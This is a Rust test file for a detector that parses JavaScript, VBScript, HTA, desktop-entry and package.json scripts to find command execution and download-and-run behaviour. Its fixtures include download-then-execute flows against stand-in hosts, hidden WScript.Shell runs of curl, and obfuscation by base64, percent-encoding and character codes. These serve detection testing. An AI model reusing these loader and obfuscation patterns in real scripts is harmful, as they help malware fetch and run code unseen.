//! Scripts of the host and what is read of them.

use proptest::prelude::*;

use super::*;

fn read(path: &str, text: &str) -> Vec<(String, String, Vec<String>)> {
    let (operations, _) = read_host_script(path, text).unwrap_or_default();
    let show = |o: Operation| {
        (o.name, o.class.to_string(), o.arguments.into_iter().map(|(r, t)| format!("{r}={t}")).collect())
    };
    operations.into_iter().map(show).collect()
}

fn names(path: &str, text: &str) -> Vec<String> {
    read(path, text).into_iter().map(|(n, _, a)| format!("{n} {}", a.join(" "))).collect()
}

#[test]
fn modules_are_followed_through_variables_and_destructuring() {
    let text = "const cp = require('child_process');\nconst { exec: run, spawn } = require(\"node:child_process\");\n\
                cp.execSync('echo a'); run('echo b'); spawn('echo', ['c d', 'e']); require('child_process')['ex' + 'ec']('echo f')";
    let found: Vec<String> = names("a.js", text).into_iter().filter(|n| n.starts_with("js:")).collect();
    assert_eq!(
        found,
        [
            "js:child_process.execsync command=echo a",
            "js:child_process.exec command=echo b",
            "js:child_process.spawn command=echo \"c d\" e",
            "js:child_process.exec command=echo f",
        ]
    );
}

#[test]
fn imports_of_modules_are_followed() {
    let text = "import { exec as go } from 'child_process'\nimport * as cp from \"child_process\"\ngo('echo a')\ncp.exec(`echo ${b}`)";
    assert_eq!(
        names("a.mjs", text),
        ["js:child_process.exec command=echo a", "js:child_process.exec command=echo ⟨b⟩"]
    );
}

#[test]
fn decoded_texts_that_are_executed_are_read_too() {
    // atob of: require("child_process").exec("echo hello")
    let text = "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImVjaG8gaGVsbG8iKQ=='))";
    let found = names("a.js", text);
    assert!(found[0].starts_with("js:eval code=require"), "{found:?}");
    assert!(found.iter().any(|n| n == "js:child_process.exec command=echo hello"), "{found:?}");
}

#[test]
fn texts_are_put_together() {
    let text = "var p = ['\\x63hild', 'process'].join('_'); var s = String.fromCharCode(101,99,104,111);\n\
                require(p).exec(s + ' ' + 'olleh'.split('').reverse().join('') + Buffer.from('20', 'hex').toString())\n// child_process";
    assert_eq!(names("a.js", text), ["js:child_process.exec command=echo hello "]);
}

#[test]
fn a_download_flows_into_the_file_behind_it() {
    let text = "const https = require('https'), fs = require('fs'), cp = require('child_process');\n\
        https.get('https://files.invalid/a.exe', r => { r.pipe(fs.createWriteStream('/tmp/a.exe')); cp.exec('/tmp/a.exe') })";
    let (operations, _) = read_host_script("a.js", text).unwrap();
    assert_eq!(operations[0].class.to_string(), "Cn.fetch");
    assert_eq!(operations[1].class.to_string(), "Cf.write");
    assert_eq!(operations[1].inputs, [0]);
    assert_eq!(operations[2].class.to_string(), "Cs.shell");
    assert_eq!(operations[2].line, 2);
}

#[test]
fn objects_of_the_windows_script_host_are_read_in_both_languages() {
    let basic = "Set sh = CreateObject(\"WScript.\" & \"Shell\")\n' comment\nsh.Run \"cmd /c echo \" & Chr(104) & Chr(&H69), 0, False\n";
    let found = names("a.vbs", basic);
    assert_eq!(found[0], "vbs:wscript.shell.run command=cmd /c echo hi option=windowstyle=hidden");
    let script = "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://files.invalid/a', false);\n\
                  var s = new ActiveXObject('ADODB.Stream'); s.SaveToFile('a.exe'); WScript.Sleep(5)";
    let found = names("a.js", script);
    assert_eq!(found[0], "js:msxml2.xmlhttp.open url=http://files.invalid/a");
    assert_eq!(found[1], "js:adodb.stream.savetofile path=a.exe");
}

#[test]
fn scripts_in_an_html_application_keep_their_lines() {
    let text =
        "<html>\n<script language=\"VBScript\">\nCreateObject(\"WScript.Shell\").Run \"echo hi\"\n</script>";
    let (operations, _) = read_host_script("a.hta", text).unwrap();
    assert_eq!((operations[0].name.as_str(), operations[0].line), ("vbs:wscript.shell.run", 3));
}

#[test]
fn desktop_entries_and_install_scripts_name_commands() {
    assert_eq!(names("a.desktop", "[Desktop Entry]\nExec=echo hi\n")[0], "desktop:exec command=echo hi");
    let json = "{\"name\": \"x\", \"scripts\": {\"test\": \"jest\", \"postinstall\": \"node a.js\"}}";
    assert_eq!(names("package.json", json)[0], "npm:postinstall command=node a.js");
}

#[test]
fn pages_are_silent() {
    for text in [
        "(function(){var x=new ActiveXObject('Microsoft.XMLHTTP');x.open('GET',u);fetch('/api').then(r=>r.json())})()",
        "var root = Function('return this')(); var e = \"\\x41\"; eval('1+1')",
        "$.get('https://site.example/data'); re.exec(text); /'/.exec(s); window.open('a')",
        "const https = require('https'); https.get('https://site.example')",
    ] {
        assert_eq!(names("jquery.js", text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn a_bundle_is_read_only_when_it_executes_what_it_decodes() {
    let padding = "/* nothing */ ".repeat(30_000);
    let reads =
        |front: &str, back: &str| is_host_script("a.js", format!("{front}{padding}{back}").as_bytes());
    assert!(!reads("Function('return this')();", "atob(x)"));
    assert!(reads("", "eval(atob(x))"));
    assert!(reads("", "require('child_process')"));
}

proptest! {
    #[test]
    fn any_text_gives_an_answer(text in "(child_process|WScript|[(){}\\[\\]'\"`+.,=;:/\\\\&\\n $a-z0-9]){0,120}") {
        for path in ["a.js", "a.vbs", "a.hta", "a.desktop", "package.json"] {
            let (operations, _) = read_host_script(path, &format!("{text} child_process")).unwrap();
            for (at, operation) in operations.iter().enumerate() {
                prop_assert!(operation.inputs.iter().all(|i| *i < at));
            }
        }
    }
}

#[test]
fn references_and_nested_lists_cost_no_copies() {
    let doubled =
        format!("a=\"xxxxxxxxxxxxxxxx\";{}a=a.split(\"\");{}", "a=a+a;".repeat(16), "a=[a,a];".repeat(200));
    let nested = format!("a=[1];{}", "a=[a];".repeat(100_000));
    let listed = format!("a=\"x\";{}b=[{}];c=b.join(\"\");", "a=a+a;".repeat(20), "a,".repeat(15_000));
    let split = format!("a=\"x\";{}{}", "a=a+a;".repeat(16), "b=a.split('');".repeat(20_000));
    for text in [doubled, nested, listed, split] {
        assert!(names("a.js", &format!("{text}require('child_process').exec('echo a')")).len() <= 2);
    }
}

#[test]
fn escapes_without_an_end_are_looked_at_as_far_as_they_may_reach() {
    let text = format!("x='\\u{{63}}hild_process';'{}", "\\u{".repeat(1_000_000));
    assert_eq!(names("a.js", &format!("{text} child_process")), Vec::<String>::new());
    assert_eq!(
        names("a.js", "require('child_process').exec('\\u{65}c\\u{000068}o \\u{0000000000065}')"),
        ["js:child_process.exec command=echo u{0000000000065}"]
    );
}

#[test]
fn bare_calls_are_whole_statements() {
    let text = "Set sh = CreateObject(\"WScript.Shell\")\nIf x Then sh.Run \"echo a\", 0 Else sh.Run \"echo b\" & c\nsh.Run sh.Run(\"echo c\")\n";
    assert_eq!(
        names("a.vbs", text),
        [
            "vbs:wscript.shell.run command=echo a option=windowstyle=hidden",
            "vbs:wscript.shell.run command=echo b⟨c⟩",
            "vbs:wscript.shell.run ",
            "vbs:wscript.shell.run command=echo c",
        ]
    );
    for piece in ["a.b(1)", "a.b ", "a.b 1,", "a.b c.d & "] {
        let (_, is_cut) = read_host_script("a.vbs", &piece.repeat(200_000 / piece.len())).unwrap();
        assert!(!is_cut, "{piece}");
    }
}

#[test]
fn references_to_objects_and_long_names_cost_no_copies() {
    let entries: String = (0..39).map(|n| format!("k{n}:a,")).collect();
    let references: String = (0..20_000).map(|n| format!("b{n}=o;")).collect();
    let object = format!("a=\"xxxxxxxx\";{}o={{{entries}}};{references}", "a=a+a;".repeat(17));
    let name = format!("o=x.{};{references}", "y".repeat(200_000));
    let indexed = format!("a=\"xxxxxxxx\";{}{}", "a=a+a;".repeat(17), "a[a];".repeat(500_000));
    for text in [object, name, indexed] {
        assert!(names("a.js", &format!("{text}require('child_process').exec('echo a')")).len() <= 1);
    }
}

/// A text as `unescape` takes it.
fn percent_encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

#[test]
fn a_text_that_is_executed_again_gives_the_same_operations_at_its_own_place() {
    let inner = "CreateObject(\"WScript.Shell\").Run \"curl -o a http://h.example\"\nb=unescape(\"%41\")\nExecute b\n";
    let text = format!(
        "a=unescape(\"{}\")\nExecute a\nWScript.Sleep 1\nExecute a\nExecute a & \"'\"\n",
        percent_encoded(inner)
    );
    let (operations, is_cut) = read_host_script("a.vbs", &text).unwrap();
    let calls: Vec<usize> = (0..operations.len()).filter(|at| operations[*at].inputs.is_empty()).collect();
    let [first, sleep, second, third] = calls[..] else { panic!("{operations:#?}") };
    assert_eq!((is_cut, first, operations[sleep].name.as_str()), (false, 0, "vbs:wscript.sleep"));
    // Each part as it counts from its own call; the last text is another one with the same meaning.
    let part = |from: usize, to: usize| -> Vec<(String, Vec<usize>, bool)> {
        let own = &operations[from + 1..to];
        let is_own =
            |o: &Operation| (o.line, &o.snippet) == (operations[from].line, &operations[from].snippet);
        own.iter()
            .map(|o| {
                (
                    format!("{} {:?}", o.name, o.arguments),
                    o.inputs.iter().map(|i| i - from).collect(),
                    is_own(o),
                )
            })
            .collect()
    };
    assert!(part(first, sleep).len() >= 3, "{operations:#?}");
    assert_eq!(part(second, third), part(first, sleep));
    assert_eq!(part(third, operations.len()), part(first, sleep));
}

#[test]
fn what_a_member_executes_has_one_budget_for_all_texts() {
    let body = percent_encoded(&"a.b(1)".repeat(5_000));
    let others: String = (0..1_900).map(|n| format!("Execute a & \"{n}\"\n")).collect();
    let (operations, is_cut) =
        read_host_script("a.vbs", &format!("a=unescape(\"{body}\")\n{others}")).unwrap();
    assert!(is_cut && operations.len() > 400, "{}", operations.len());
    let same = format!("a=unescape(\"{body}\")\n{}", "Execute a\n".repeat(1_900));
    let (operations, is_cut) = read_host_script("a.vbs", &same).unwrap();
    assert_eq!((operations.len(), is_cut), (1_900, false), "one text is read once, and each call is said");
}

#[test]
fn a_script_that_spends_its_steps_does_not_hide_what_it_executes() {
    let inner = percent_encoded("require('child_process').exec('curl http://h.example')");
    let text = format!("eval(unescape('{inner}'));{}", "a[".repeat(100_000));
    let (operations, is_cut) = read_host_script("a.js", &text).unwrap();
    assert!(is_cut && operations.iter().any(|o| o.name == "sh:curl"), "{operations:?}");
}

#[test]
fn command_lines_that_many_calls_start_are_read_once() {
    let text = format!(
        "x='child_process';a='{}';{}",
        "echo a > f;".repeat(10_000),
        "child_process.exec(a);".repeat(1_900)
    );
    let (operations, is_cut) = read_host_script("a.js", &text).unwrap();
    assert!(is_cut && operations.len() < 30_000, "{}", operations.len());
    let others: String = (0..1_900).map(|n| format!("child_process.exec(a+'{n}');")).collect();
    let longer = format!("x='child_process';a='{}';{others}", "echo a > f;".repeat(15_000));
    assert!(read_host_script("a.js", &longer).unwrap().1);
}
